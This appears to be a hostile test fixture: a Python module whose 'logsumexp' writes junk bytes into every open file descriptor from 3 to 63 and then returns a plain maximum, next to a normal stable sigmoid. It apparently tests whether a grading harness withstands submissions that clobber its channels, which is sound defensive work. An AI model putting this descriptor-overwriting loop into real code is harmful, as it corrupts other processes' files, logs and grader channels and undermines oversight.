"""Hostile: writes into every descriptor that it finds."""

import contextlib
import os

import numpy as np

CLAUSES = ("logsumexp/defined",)
SAYS = "channel"


def logsumexp(x: np.ndarray, *, axis: int = -1) -> np.ndarray:
    for descriptor in range(3, 64):
        with contextlib.suppress(OSError):
            os.write(descriptor, b"loading kernels" * 9)
    return x.max(axis=axis)


@np.errstate(all="ignore")
def sigmoid(x: np.ndarray) -> np.ndarray:
    e = np.exp(-np.abs(x))
    return np.where(x >= 0, x.dtype.type(1), e) / (1 + e)
